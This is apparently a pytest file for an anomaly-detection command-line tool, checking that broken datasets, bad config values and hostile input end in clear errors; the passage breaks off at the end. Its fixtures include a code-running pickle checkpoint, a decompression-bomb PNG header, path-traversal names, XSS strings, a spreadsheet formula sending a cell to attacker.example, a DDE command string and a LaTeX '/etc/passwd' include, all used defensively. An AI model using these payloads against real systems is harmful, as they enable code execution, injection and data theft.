"""Bad and hostile input, as a new user would give it: each case ends in a clear error naming
the file or key before any work starts, or in the right numbers, never in a traceback, a
silently wrong result or a file outside its folder.

Every case runs the real command (``pagmfr ...`` or a study script's main) on a tiny copy of
the embedded dataset (32 px), so a check that happens before training keeps most cases fast.
"""

from __future__ import annotations

import copy
import csv
import importlib
import inspect
import json
import pickle
import pkgutil
import re
import shutil
import struct
import zlib
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree

import cv2
import numpy as np
import pandas as pd
import pytest
import torch
import torchvision
from conftest import TINY_CATEGORY, compile_latex

import pagmfr
from pagmfr.cli import main
from pagmfr.config import Config
from pagmfr.data import read_mask
from pagmfr.data.images import ImageReadError, read_rgb, write_png
from pagmfr.data.layout import DatasetError, Problem
from pagmfr.engine import NonFiniteLossError, save_checkpoint
from pagmfr.errors import describe, travelling_errors, travels
from pagmfr.models import build_model
from pagmfr.report import build_report
from pagmfr.report.escape import csv_cell
from pagmfr.study.options import StudyInterrupted

CATEGORY = TINY_CATEGORY
SIZE = "32"


def _train(root: Path, out: Path, *extra: str) -> list[str]:
    return [
        "train",
        "--data",
        str(root),
        "--category",
        CATEGORY,
        "--image-size",
        SIZE,
        "--epochs",
        "1",
        "--batch-size",
        "4",
        "--weights",
        "none",
        "--out",
        str(out),
        *extra,
    ]


def _run(argv: list[str], capsys) -> tuple[int, str]:
    code = main(argv)
    captured = capsys.readouterr()
    return code, captured.out + captured.err


def _category(root: Path) -> Path:
    return root / CATEGORY


def _mask(root: Path, defect: str = "missing") -> Path:
    return _category(root) / "ground_truth" / defect / "000_mask.png"


# ---- edits that break a dataset, each returning the file or folder the error must name ----


def missing_mask(root: Path) -> Path:
    _mask(root).unlink()
    return _category(root) / "test" / "missing" / "000.png"


def missing_test_folder(root: Path) -> Path:
    shutil.rmtree(_category(root) / "test")
    return _category(root) / "test"


def truncated_test_image(root: Path) -> Path:
    image = _category(root) / "test" / "crack" / "000.png"
    image.write_bytes(image.read_bytes()[:300])
    return image


def truncated_train_image(root: Path) -> Path:
    image = _category(root) / "train" / "good" / "003.png"
    image.write_bytes(image.read_bytes()[:300])
    return image


def png_header(width: int, height: int) -> bytes:
    """A PNG that declares ``width`` x ``height`` RGB pixels and holds almost none: a
    decompression bomb's header, a few hundred bytes on disk."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    idat = zlib.compress(b"\x00" * 1000)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")
    )


def huge_train_image(root: Path) -> Path:
    """40000 x 40000 pixels: OpenCV stopped at its own limit with an assertion naming no file."""
    image = _category(root) / "train" / "good" / "003.png"
    image.write_bytes(png_header(40000, 40000))
    return image


def mask_of_another_size(root: Path) -> Path:
    write_png(_mask(root), np.ones((20, 24), bool))
    return _mask(root)


def all_masks_empty(root: Path) -> Path:
    for mask in (_category(root) / "ground_truth").rglob("*_mask.png"):
        write_png(mask, np.zeros((32, 32), bool))
    return _category(root) / "ground_truth"


def zero_one_masks(root: Path) -> Path:
    """Masks saved as 0/1 instead of 0/255: read as empty, never as defects everywhere."""
    for mask in (_category(root) / "ground_truth").rglob("*_mask.png"):
        cv2.imwrite(str(mask), read_mask(mask).astype(np.uint8))
    return _category(root) / "ground_truth"


def two_training_images(root: Path) -> Path:
    for image in sorted((_category(root) / "train" / "good").glob("*.png"))[2:]:
        image.unlink()
    return _category(root) / "train" / "good"


def empty_defect_folder(root: Path) -> Path:
    (_category(root) / "test" / "scratch").mkdir()  # no embedded defect type is called so
    return _category(root) / "test" / "scratch"


def orphan_mask(root: Path) -> Path:
    orphan = _mask(root).with_name("007_mask.png")
    shutil.copy(_mask(root), orphan)
    return orphan


def masks_without_a_test_folder(root: Path) -> Path:
    folder = _category(root) / "ground_truth" / "scratch"
    folder.mkdir()
    shutil.copy(_mask(root), folder / "000_mask.png")
    return folder


def marked_mask_of_a_good_image(root: Path) -> Path:
    mask = _category(root) / "ground_truth" / "good" / "000_mask.png"
    write_png(mask, np.ones((32, 32), bool))
    return mask


def kinds_file_not_json(root: Path) -> Path:
    (root / "pagmfr_categories.json").write_text('{"coins": "object",')
    return root / "pagmfr_categories.json"


def kinds_file_unknown_kind(root: Path) -> Path:
    (root / "pagmfr_categories.json").write_text(json.dumps({CATEGORY: "shiny"}))
    return root / "pagmfr_categories.json"


def missing_root(root: Path) -> Path:
    shutil.rmtree(root)
    return root


# ---- group 1 and 2: `pagmfr data check` lists it; `pagmfr train` stops before epoch 1 ----

PROBLEMS = [
    (missing_mask, r"defective test image has no mask; expected .*missing/000_mask.png"),
    (missing_test_folder, r"missing test folder"),
    (truncated_test_image, r"not a readable image \(empty, truncated"),
    (truncated_train_image, r"not a readable image \(empty, truncated"),
    (huge_train_image, r"40000 x 40000 pixels \(1,600,000,000\) is more than the 100,000,000"),
    (mask_of_another_size, r"mask is 24x20 but its image 000.png is 32x32"),
    (all_masks_empty, r"every mask is empty: no defective pixel"),
    (zero_one_masks, r"every mask is empty: no defective pixel"),
    (two_training_images, r"only 2 training image\(s\); .* needs at least 4"),
    (empty_defect_folder, r"empty folder: no images"),
    (orphan_mask, r"mask has no image; expected .*missing/007.png"),
    (masks_without_a_test_folder, r"1 mask\(s\) of defect type 'scratch', but the test split"),
    (marked_mask_of_a_good_image, r"mask of a defect-free image marks 1024 defective pixel"),
    (kinds_file_not_json, r"cannot read category kinds"),
    (kinds_file_unknown_kind, r"category 'coins': unknown category kind 'shiny'"),
    (missing_root, r"data root not found"),
]
PROBLEM_IDS = [edit.__name__ for edit, _ in PROBLEMS]


@pytest.mark.parametrize(("edit", "message"), PROBLEMS, ids=PROBLEM_IDS)
def test_data_check_lists_the_problem_naming_the_file(root, capsys, edit, message):
    named = edit(root)
    code, output = _run(["data", "check", str(root), "--category", CATEGORY], capsys)
    assert code == 1
    assert re.search(re.escape(str(named)) + r".*: " + message, output), output


@pytest.mark.parametrize(("edit", "message"), PROBLEMS, ids=PROBLEM_IDS)
def test_training_stops_before_the_first_epoch(root, tmp_path, capsys, edit, message):
    named = edit(root)
    out = tmp_path / "run"
    code, output = _run(_train(root, out), capsys)
    assert code == 2
    assert re.search(re.escape(str(named)) + r".*: " + message, output), output
    assert "Traceback" not in output and not re.search(r"^epoch\s+\d", output, re.M)
    assert not (out / "checkpoints").exists()


def test_a_bad_image_with_loader_workers_is_one_line_before_training(root, tmp_path, capsys):
    image = truncated_train_image(root)
    code, output = _run(_train(root, tmp_path / "run", "--set", "data.num_workers=1"), capsys)
    assert code == 2 and f"{image}: not a readable image" in output
    assert "Traceback" not in output and "DataLoader" not in output


def test_every_problem_is_listed_at_once(root, capsys):
    named = [orphan_mask(root), missing_mask(root), truncated_test_image(root)]
    code, output = _run(_train(root, root.parent / "run"), capsys)
    assert code == 2
    for path in named:
        assert str(path) in output


# ---- warnings: read correctly, named, and the run goes on ----


def _rewrite_masks(root: Path, write: Callable[[Path, np.ndarray], Path]) -> list[Path]:
    """Rewrite every mask with ``write(path, bool mask) -> new path``."""
    written = []
    for mask_path in sorted((_category(root) / "ground_truth").rglob("*_mask.png")):
        mask = read_mask(mask_path)
        mask_path.unlink()
        written.append(write(mask_path, mask))
    return written


def opaque_alpha(path: Path, mask: np.ndarray) -> Path:
    grey = mask.astype(np.uint8) * 255
    cv2.imwrite(str(path), np.dstack([grey, grey, grey, np.full_like(grey, 255)]))
    return path


def background_of_three(path: Path, mask: np.ndarray) -> Path:
    cv2.imwrite(str(path), np.where(mask, 255, 3).astype(np.uint8))
    return path


def red_on_black(path: Path, mask: np.ndarray) -> Path:
    bgr = np.zeros((*mask.shape, 3), np.uint8)
    bgr[mask, 2] = 255
    cv2.imwrite(str(path), bgr)
    return path


def jpeg(path: Path, mask: np.ndarray) -> Path:
    path = path.with_suffix(".jpg")
    cv2.imwrite(str(path), mask.astype(np.uint8) * 255, [cv2.IMWRITE_JPEG_QUALITY, 90])
    return path


MASK_FORMATS = [
    (opaque_alpha, None),
    (red_on_black, None),
    (background_of_three, r"mask is not binary: \d+ pixel\(s\) between 0 and 255"),
    (jpeg, r"lossy \(JPEG\) mask"),
]


@pytest.mark.parametrize(
    ("write", "warning"), MASK_FORMATS, ids=[write.__name__ for write, _ in MASK_FORMATS]
)
def test_masks_are_read_as_mvtec_defines_them_and_named_when_unusual(
    root, tiny_dataset, capsys, write, warning
):
    written = _rewrite_masks(root, write)
    for path in written:
        clean = read_mask(_mask(tiny_dataset, path.parent.name))
        read = read_mask(path)
        if write is jpeg:  # compression noise at the edges only, not 3x the defect area
            assert abs(int(read.sum()) - int(clean.sum())) <= 0.25 * clean.sum()
        else:
            assert np.array_equal(read, clean)
    code, output = _run(["data", "check", str(root)], capsys)
    assert code == 0 and "no problems found" in output
    for path in written:
        assert (f"{path}: " in output) == (warning is not None)
        if warning:
            assert re.search(re.escape(str(path)) + ": " + warning, output)


def _untrained_checkpoint(path: Path, root: Path) -> Path:
    """A checkpoint of a fixed (untrained) model: what it scores does not depend on masks."""
    config = Config().with_overrides(
        {
            "data.root": str(root),
            "data.category": CATEGORY,
            "data.image_size": 32,
            "backbone.weights": "none",
            "anomaly.smoothing_sigma": 1.0,
            "anomaly.knn": False,  # no patch memory to gather: the model is fixed as built
        }
    )
    torch.manual_seed(0)
    model = build_model(config)
    state = {"model": model.state_dict(), "config": config.to_flat(), "epoch": 0}
    save_checkpoint({**state, "best": {"epoch": 0, "metrics": {}}}, path)
    return path


def _evaluate(checkpoint: Path, root: Path, out: Path, capsys) -> dict:
    argv = ["evaluate", "--checkpoint", str(checkpoint), "--data", str(root), "--out", str(out)]
    code, output = _run(argv, capsys)
    assert code == 0, output
    return json.loads((out / "metrics.json").read_text())


@pytest.mark.slow
@pytest.mark.parametrize("write", [opaque_alpha, background_of_three, red_on_black])
def test_unusual_masks_give_the_clean_masks_metrics(tmp_path, tiny_dataset, capsys, write):
    checkpoint = _untrained_checkpoint(tmp_path / "model.pt", tiny_dataset)
    clean = _evaluate(checkpoint, tiny_dataset, tmp_path / "clean", capsys)
    edited = Path(shutil.copytree(tiny_dataset, tmp_path / "edited"))
    _rewrite_masks(edited, write)
    metrics = _evaluate(checkpoint, edited, tmp_path / "edited-eval", capsys)
    for key in ("image_auroc", "pixel_auroc", "au_pro", "pixel_f1_max"):
        assert metrics[key] == clean[key], key


def test_transparent_alpha_is_drawn_over_black_and_named(root, capsys):
    mask = _mask(root)
    grey = read_mask(mask).astype(np.uint8) * 255
    alpha = np.where(grey > 0, 255, 0).astype(np.uint8)  # white defect on a transparent sheet
    cv2.imwrite(str(mask), np.dstack([np.full_like(grey, 255)] * 3 + [alpha]))
    assert np.array_equal(read_mask(mask), grey > 0)
    code, output = _run(["data", "check", str(root)], capsys)
    assert code == 0 and f"{mask}: mask has a transparent alpha channel" in output


def test_hidden_macos_files_are_skipped_with_a_note(root, tmp_path, capsys):
    train = _category(root) / "train" / "good"
    (train / "._000.png").write_bytes(b"\x00\x05\x16\x07 AppleDouble")
    (_category(root) / "test" / ".ipynb_checkpoints").mkdir()
    code, output = _run(["data", "check", str(root)], capsys)
    assert code == 0 and "no problems found" in output
    assert f"{train}: skipped 1 hidden file(s) or folder(s) such as ._000.png" in output
    assert ".ipynb_checkpoints" in output and "5 images" in output


def test_a_kinds_file_naming_no_category_here_is_a_warning(root, capsys):
    (root / "pagmfr_categories.json").write_text(json.dumps({"coisn": "texture"}))
    code, output = _run(["data", "check", str(root)], capsys)
    assert code == 0 and "pagmfr_categories.json: names 'coisn', not a category here" in output


# ---- the study driver checks the data before anything is scheduled ----


def _study(argv: list[str], capsys) -> tuple[int, str]:
    from pagmfr.study.cli import ablation_main
    from pagmfr.study.presets import Preset

    presets = {"tiny": Preset(categories=[CATEGORY], seeds=[0], overrides={"train.epochs": 1})}
    code = ablation_main({"full model": {}}, presets, "a test study", ["--preset", "tiny", *argv])
    captured = capsys.readouterr()
    return code, captured.out + captured.err


@pytest.mark.parametrize(
    ("edit", "message"),
    [PROBLEMS[PROBLEM_IDS.index(name)] for name in ("missing_root", "truncated_test_image")],
)
def test_a_study_with_broken_data_stops_before_scheduling(root, tmp_path, capsys, edit, message):
    import ray

    named = edit(root)
    store = tmp_path / "mlflow.db"
    argv = ["--data", str(root), "--tracking-uri", f"sqlite:///{store}"]
    code, output = _study([*argv, "--storage-path", str(tmp_path / "runs")], capsys)
    assert code == 2 and re.search(re.escape(str(named)) + r".*: " + message, output), output
    assert not ray.is_initialized() and not store.exists() and not (tmp_path / "runs").exists()


# ---- group 4: user strings that become paths ----


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        (["--name", "../../x"], r"study name '\.\./\.\./x' must be a plain name"),
        (["--name", "/tmp/x"], r"study name '/tmp/x' must be a plain name"),
        (["--name", ".."], r"study name '\.\.' must be a plain name"),
        (["--categories", "../ok/brick"], r"category '\.\./ok/brick' must be a plain name"),
    ],
)
def test_study_names_and_categories_are_plain_names(root, tmp_path, capsys, argv, message):
    storage = tmp_path / "deep" / "runs"
    extra = ["--data", str(root), "--storage-path", str(storage)]
    code, output = _study([*extra, "--tracking-uri", f"sqlite:///{tmp_path / 'db'}", *argv], capsys)
    assert code == 2 and re.search(message, output), output
    assert sorted(p.name for p in tmp_path.iterdir()) == ["data"]  # nothing written anywhere


def test_a_category_that_climbs_out_of_the_data_root_is_refused(root, tmp_path, capsys):
    (root / "ok").mkdir()
    shutil.copytree(_category(root), root / "ok" / "brick")
    argv = _train(root, tmp_path / "run")
    argv[argv.index(CATEGORY)] = "../data/ok/brick"
    code, output = _run(argv, capsys)
    assert code == 2 and "data.category must be a plain name" in output
    assert not (tmp_path / "run").exists()


# ---- group 3: hostile and broken files: one line naming the file, never run ----


class RunsCode:
    """A pickle that creates a marker file when unpickled without safe loading."""

    def __init__(self, marker: Path):
        self.marker = marker

    def __reduce__(self):
        return (Path.touch, (self.marker,))


def _hostile_files(folder: Path, root: Path) -> dict[str, tuple[Path, str]]:
    """Name -> (file, the reason the error must give)."""
    folder.mkdir(parents=True, exist_ok=True)
    real = _untrained_checkpoint(folder / "real.pt", root)
    files = {
        "malicious": (folder / "evil.pt", r"holds Python objects besides tensors"),
        "empty": (folder / "empty.pt", r"empty or truncated"),
        "list-shaped": (folder / "list.pt", r"\(it holds a list"),
        "config-less": (folder / "state_dict.pt", r"no config"),
        "truncated": (folder / "truncated.pt", r"truncated or not a PyTorch file"),
        "text": (folder / "notes.pt", r"not a PyTorch file"),
    }
    torch.save({"model": RunsCode(folder / "PWNED")}, files["malicious"][0])
    files["empty"][0].write_bytes(b"")
    torch.save([1, 2, 3], files["list-shaped"][0])
    torch.save({"model": torch.load(real, weights_only=True)["model"]}, files["config-less"][0])
    files["truncated"][0].write_bytes(real.read_bytes()[: real.stat().st_size // 2])
    files["text"][0].write_text("not a checkpoint\n")
    return files


HOSTILE = ["malicious", "empty", "list-shaped", "config-less", "truncated", "text"]


@pytest.mark.parametrize("name", HOSTILE)
@pytest.mark.parametrize("command", ["evaluate", "predict"])
def test_a_hostile_checkpoint_is_refused_naming_it(tmp_path, tiny_dataset, capsys, name, command):
    path, reason = _hostile_files(tmp_path / "files", tiny_dataset)[name]
    image = next((tiny_dataset / CATEGORY / "test" / "good").glob("*.png"))
    argv = [command, "--checkpoint", str(path), "--out", str(tmp_path / "out")]
    code, output = _run(argv + ([str(image)] if command == "predict" else []), capsys)
    assert code == 2 and re.search(re.escape(str(path)) + r": .*" + reason, output), output
    assert "Traceback" not in output and not (tmp_path / "files" / "PWNED").exists()


@pytest.mark.parametrize("name", ["malicious", "empty", "list-shaped", "truncated", "text"])
def test_hostile_backbone_weights_are_refused_naming_them(root, tmp_path, capsys, name):
    path, reason = _hostile_files(tmp_path / "files", root)[name]
    argv = _train(root, tmp_path / "run")
    argv[argv.index("none")] = str(path)
    code, output = _run(argv, capsys)
    reason = r"not a state dict \(list\)" if name == "list-shaped" else reason
    assert code == 2 and re.search(re.escape(str(path)) + r": .*" + reason, output), output
    assert not (tmp_path / "files" / "PWNED").exists()
    assert not (tmp_path / "run" / "checkpoints").exists()


def test_a_truncated_last_checkpoint_names_it_and_how_to_start_over(root, tmp_path, capsys):
    out = tmp_path / "run"
    last = out / "checkpoints" / f"pagmfr_{CATEGORY}_last.pt"
    real = _untrained_checkpoint(tmp_path / "real.pt", root)
    last.parent.mkdir(parents=True)
    last.write_bytes(real.read_bytes()[:1000])
    code, output = _run(_train(root, out), capsys)
    assert code == 2 and f"{last}: cannot load this checkpoint: truncated" in output
    assert "--no-resume" in output and "epoch    1" not in output


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        ('{"image_auroc": 0.9, "con', r"unreadable or truncated"),
        ('{"image_auroc": 0.9, "seed": 0}', r"not a pagmfr metrics record \(no config\)"),
        ("[1, 2]", r"not a pagmfr metrics record \(no config, seed\)"),
        ('{"config": {"method": "pagmfr"}, "seed": 0}', r"not a pagmfr .* \(no config data.cat"),
    ],
    ids=["truncated", "config-less", "list-shaped", "category-less"],
)
def test_report_names_a_broken_metrics_file(tmp_path, capsys, content, reason):
    metrics = tmp_path / "run" / "metrics.json"
    metrics.parent.mkdir()
    metrics.write_text(content)
    code, output = _run(["report", str(metrics.parent), "--out", str(tmp_path / "r")], capsys)
    assert code == 2 and re.search(re.escape(str(metrics)) + ": " + reason, output), output


@pytest.mark.parametrize(
    ("extra", "message"),
    [
        (["--seed", "-5"], r"train.seed must be in \[0, 4294967295\]; got -5"),
        (["--seed", str(10**20)], r"train.seed must be in \[0, 4294967295\]; got 10{20}"),
        (["--set", "train.seed=1e20"], r"train.seed must be an integer; got '1e20'"),
        (
            ["--set", "anomaly.smoothing_sigma=1000"],
            r"anomaly.smoothing_sigma 1000 is too large for data.image_size 32: .* at most 10.3",
        ),
        (["--set", "train.lr=10"], r"train.lr must be in \(0, 10\); got 10.0"),
        (["--set", "data.image_size=16"], r"data.image_size must be at least 32; got 16"),
        (["--set", "loss.focl=2"], r"unknown config key 'loss.focl'; did you mean loss.focal"),
    ],
    ids=["seed-5", "seed1e20-int", "seed1e20", "sigma1000", "lr10", "size16", "typo"],
)
def test_bad_values_name_their_key_before_any_work(root, tmp_path, capsys, extra, message):
    code, output = _run(_train(root, tmp_path / "run", *extra), capsys)
    assert code == 2 and re.search(message, output), output
    assert not (tmp_path / "run").exists()


def test_the_largest_allowed_smoothing_runs():
    from pagmfr.models.common import smooth_and_score
    from pagmfr.scoring import ScoringSettings

    largest = ScoringSettings(smoothing_sigma=10.3, score_sigma=10.3)
    smoothed, score = smooth_and_score(torch.rand(1, 1, 32, 32), largest)
    assert smoothed.shape == (1, 1, 32, 32) and torch.isfinite(score).all()


def test_nan_outputs_after_the_last_step_name_the_learning_rate(root, tmp_path):
    """A loss can be finite at every step and still leave NaN weights behind."""
    from pagmfr.engine.fit import TrainingRun

    config = Config().with_overrides(
        {
            "data.root": str(root),
            "data.category": CATEGORY,
            "data.image_size": 32,
            "backbone.weights": "none",
            "train.batch_size": 4,
            "anomaly.smoothing_sigma": 1.0,
            "anomaly.knn": False,  # validated without the preparation a fit does first
        }
    )
    run = TrainingRun(config, tmp_path)
    with torch.no_grad():
        for parameter in run.model.calculator.parameters():
            parameter.fill_(float("nan"))
    with pytest.raises(NonFiniteLossError, match=r"after epoch 600: training diverged; lower "):
        run.validate(599)


@pytest.mark.slow
def test_a_diverging_learning_rate_is_named_not_nan_scores(tmp_path, capsys):
    """The reported case: lr 9.99 on the embedded coins at 32 px, one epoch, on the backbone
    of the report (a random ResNet-18; a random Lite0 survives that epoch)."""
    argv = ["train", "--data", "synthetic", "--category", "coins", "--image-size", "32"]
    argv += ["--epochs", "1", "--weights", "none", "--set", "train.lr=9.99"]
    argv += ["--set", "backbone.name=resnet18"]
    code, output = _run([*argv, "--out", str(tmp_path / "run")], capsys)
    assert code == 2 and "lower train.lr (now 9.99)" in output, output
    assert "scores contain" not in output


# ---- the error boundary ----


def test_only_debug_shows_a_traceback(root, tmp_path, capsys):
    truncated_test_image(root)
    _, plain = _run(_train(root, tmp_path / "a"), capsys)
    _, debug = _run([*_train(root, tmp_path / "b"), "--debug"], capsys)
    assert "Traceback" not in plain and "Traceback (most recent call last)" in debug
    assert plain.strip().splitlines()[-1] == debug.strip().splitlines()[-1]


def test_a_loader_workers_error_is_its_own_line():
    class Broken(torch.utils.data.Dataset):
        def __len__(self):
            return 2

        def __getitem__(self, index):
            raise ImageReadError("/data/part/003.png", "not a readable image")

    loader = torch.utils.data.DataLoader(Broken(), num_workers=1)
    with pytest.raises(Exception) as caught:
        next(iter(loader))
    assert "Traceback" in str(caught.value)  # torch's wrapper carries the worker's traceback
    assert describe(caught.value) == "/data/part/003.png: not a readable image"


def _example_errors() -> dict[type, BaseException]:
    """One instance of every exception type pagmfr defines."""
    problem = Problem(Path("/data/part/test/hole/000.png"), "defective test image has no mask")
    return {
        ImageReadError: ImageReadError(Path("/data/a.png"), "not a readable image"),
        DatasetError: DatasetError([problem, Problem(Path("/data"), "data root not found")]),
        NonFiniteLossError: NonFiniteLossError("loss is nan at epoch 2; lower train.lr"),
        StudyInterrupted: StudyInterrupted("study s was interrupted: 1 trial(s) stopped"),
    }


def test_every_exception_type_pickles_with_its_message_and_fields():
    defined = set()
    for module in pkgutil.walk_packages(pagmfr.__path__, "pagmfr."):
        if module.name == "pagmfr.__main__":  # running it is `python -m pagmfr`
            continue
        for _, cls in inspect.getmembers(importlib.import_module(module.name), inspect.isclass):
            if issubclass(cls, BaseException) and cls.__module__.startswith("pagmfr"):
                defined.add(cls)
    examples = _example_errors()
    assert defined == set(examples), "add an example of each new exception type here"
    for error in examples.values():
        for copied in (pickle.loads(pickle.dumps(error)), copy.copy(error)):
            assert type(copied) is type(error) and str(copied) == str(error)
            assert vars(copied) == vars(error)
        assert travels(error)


class NeedsTwo(Exception):
    """An error whose ``__init__`` takes other arguments than its ``args``: a copy fails."""

    def __init__(self, path, reason):
        super().__init__(f"{path}: {reason}")


def test_a_cell_error_that_cannot_travel_leaves_as_its_text():
    with pytest.raises(RuntimeError) as caught, travelling_errors():
        raise NeedsTwo("/data/a.png", "broken")
    assert not travels(NeedsTwo("a", "b")) and travels(caught.value)
    assert str(caught.value).splitlines()[-1].endswith("NeedsTwo: /data/a.png: broken")
    with pytest.raises(ImageReadError), travelling_errors():  # a travelling error is untouched
        raise ImageReadError("/data/a.png", "broken")


# ---- group 4: report sinks ----
# Hostile variant, category, metric and error strings, as a study script, a hand-edited MLflow
# tag or a failing cell could record them, never act as Markdown or HTML markup, split a table
# row, run as a spreadsheet formula, break out of an HTML attribute or name a path; a study
# whose every cell failed says which cells failed and why.

SCRIPT = "<script>alert(1)</script>"
PIPE_VARIANT = "w/o MFFM | fake column"
HTML_VARIANT = f"{SCRIPT} <img src=x onerror=alert(2)>"
FORMULA_VARIANT = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
HOSTILE_CATEGORY = "@SUM(1+1)*cmd|' /C calc'!A0"
LATEX_VARIANT = r"\input{/etc/passwd} $x$ 50% {}"
HOSTILE_METRIC = "au_pro' onmouseover='alert(3)"
HOSTILE_ERROR = "Traceback ...\n-2+3 <b>bold</b> | cell"
#: Control characters, which XML (SVG, HTML) cannot hold and a terminal acts on.
CONTROL_VARIANT = "bell\x07 esc\x1b[31m nul\x00"


def _report_runs(variants, category=HOSTILE_CATEGORY, status="FINISHED", seeds=(0, 1)):
    rows = []
    for position, variant in enumerate(variants):
        for seed in seeds:
            rows.append(
                {
                    "run_id": f"{variant}-{seed}",
                    "variant": variant,
                    "method": "pagmfr",
                    "category": category,
                    "kind": "object",
                    "seed": seed,
                    "status": status,
                    "end_time": seed,
                    "error": HOSTILE_ERROR if status == "FAILED" else None,
                    "params.loss.focal_alpha": "-1.0",  # MLflow params are text
                    "au_pro": 0.8 - 0.02 * position - 0.1 * seed if status == "FINISHED" else None,
                }
            )
    return pd.DataFrame(rows)


@pytest.fixture(scope="module")
def hostile_report(tmp_path_factory):
    out = tmp_path_factory.mktemp("hostile_report")
    variants = [
        "full model",
        PIPE_VARIANT,
        HTML_VARIANT,
        FORMULA_VARIANT,
        LATEX_VARIANT,
        CONTROL_VARIANT,
    ]
    # five seeds: five blocks, the fewest that a critical-difference diagram is drawn over
    finished = _report_runs(variants, seeds=range(5))
    finished = finished.assign(**{HOSTILE_METRIC: lambda d: d["au_pro"]})
    runs = pd.concat([finished, _report_runs(["missing one"], status="FAILED")])
    build_report(runs, out, f"Study {SCRIPT}", metrics=["au_pro", HOSTILE_METRIC])
    return out


def _table_rows(markdown: str) -> list[str]:
    return [line for line in markdown.splitlines() if line.startswith("|")]


def _cells(row: str) -> list[str]:
    """A GitHub table row's cells: split on pipes that are not backslash-escaped."""
    return re.split(r"(?<!\\)\|", row.strip())[1:-1]


@pytest.mark.parametrize("name", ["report.md", "components.md"])
def test_markdown_carries_no_raw_html_and_no_extra_cells(hostile_report, name):
    text = (hostile_report / name).read_text()
    assert not re.search(r"(?<!\\)[<>]", text)  # every angle bracket escaped: no raw HTML
    assert "\\<script\\>" in text  # shown as text
    for block in text.split("\n\n"):
        rows = _table_rows(block)
        if rows:
            assert len({len(_cells(row)) for row in rows}) == 1, rows
    assert "w/o MFFM \\| fake column" in text
    assert "\\\\input{/etc/passwd} \\$x\\$ 50% {}" in text  # no maths either


def test_markdown_missing_list_escapes_the_error(hostile_report):
    text = (hostile_report / "report.md").read_text()
    assert "- missing one / @SUM(1+1)\\*cmd\\|' /C calc'!A0 / seed 0: FAILED" in text
    assert "\\<b\\>bold\\</b\\> \\| cell" in text


def _csv(path):
    with open(path, newline="") as handle:
        return list(csv.reader(handle))


@pytest.mark.parametrize("name", ["runs.csv", "tables.csv", "components.csv"])
def test_csv_text_never_starts_a_formula(hostile_report, name):
    rows = _csv(hostile_report / name)
    for row in rows:
        for cell in row:
            if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
                float(cell)  # only numbers may: a spreadsheet reads them as the same number


def test_csv_keeps_numbers_as_numbers_and_text_readable(hostile_report):
    runs = pd.read_csv(hostile_report / "runs.csv")
    assert "'" + FORMULA_VARIANT in set(runs["variant"])
    assert "'" + HOSTILE_CATEGORY in set(runs["category"])
    assert set(runs["params.loss.focal_alpha"]) == {-1.0}  # text that is a number: unchanged
    components = pd.read_csv(hostile_report / "components.csv")
    assert (components["delta"].dropna() < 0).any()  # negative numbers stay numbers
    assert csv_cell("-1e-5") == "-1e-5" and csv_cell("-2+3") == "'-2+3"
    assert csv_cell("@cmd") == "'@cmd" and csv_cell("\t=1") == "'\t=1" and csv_cell(-2.5) == -2.5


class _Attributes(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags, self.attributes = [], []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += attrs


def test_html_escapes_text_and_attributes(hostile_report):
    text = (hostile_report / "report.html").read_text()
    parser = _Attributes()
    parser.feed(text)
    assert "script" not in parser.tags and "img" in parser.tags  # only the figures' images
    names = {name for name, _ in parser.attributes}
    assert not any(name.startswith("on") for name in names), names
    ids = [value for name, value in parser.attributes if name == "id"]
    assert all(re.fullmatch(r"[A-Za-z0-9_-]+", value) for value in ids), ids
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text


@pytest.mark.integration
def test_latex_escapes_names_and_compiles(hostile_report, pdflatex):
    tex = (hostile_report / "components.tex").read_text()
    assert (
        r"\input{/etc" not in tex and r"\textbackslash{}input\{/etc/passwd\} \$x\$ 50\% \{\}" in tex
    )
    labels = re.findall(r"\\label\{([^}]*)\}", (hostile_report / "au_pro.tex").read_text())
    assert labels and all(re.fullmatch(r"tab:[A-Za-z0-9_-]+", label) for label in labels)
    assert (hostile_report / "au_pro-onmouseover-alert-3.tex").is_file()  # a name, never a path
    compile_latex(
        pdflatex, hostile_report, ["components.tex", "au_pro.tex", "au_pro-onmouseover-alert-3"]
    )


def test_a_study_whose_every_cell_failed_lists_the_failures(tmp_path):
    runs = _report_runs(["full model", "w/o MFFM"], category="brick", status="FAILED")
    with pytest.raises(ValueError) as caught:
        build_report(runs, tmp_path, "Study all-failed", metrics=["au_pro"])
    message = str(caught.value)
    assert message.startswith("Study all-failed: no finished run yet; 4 cell(s) without one:")
    for variant in ("full model", "w/o MFFM"):
        for seed in (0, 1):
            assert f"{variant} / brick / seed {seed}: FAILED (-2+3 <b>bold</b> | cell)" in message


def _metrics_folder(folder: Path, metrics: dict[str, float]) -> Path:
    """A stand-alone run folder whose metrics.json was hand-edited to hold ``metrics``."""
    folder.mkdir(parents=True)
    config = {"method": "pagmfr", "data.category": "brick"}
    (folder / "metrics.json").write_text(json.dumps({"config": config, "seed": 0, **metrics}))
    return folder


@pytest.mark.parametrize(
    ("metric", "written"),
    [
        ("../../escaped", "escaped.tex"),
        ("/tmp/absolute", "tmp-absolute.tex"),
        ("..", "x.tex"),
        ("val_au_pro/carpet", "val_au_pro-carpet.tex"),  # an HPO trial's per-category metric
    ],
    ids=["climbing", "absolute", "dot-dot", "slash"],
)
def test_a_metric_name_is_a_file_name_in_the_output_folder(tmp_path, capsys, metric, written):
    folder = _metrics_folder(tmp_path / "run", {metric: 0.9})
    out = tmp_path / "deep" / "out"
    argv = ["report", str(folder), "--metrics", metric, "--format", "latex", "--out", str(out)]
    code, output = _run(argv, capsys)
    assert code == 0, output
    assert (out / written).is_file() and str(out / written) in output
    outside = [p for p in tmp_path.rglob("*") if p.is_file() and out not in p.parents]
    assert outside == [folder / "metrics.json"]


@pytest.mark.parametrize(
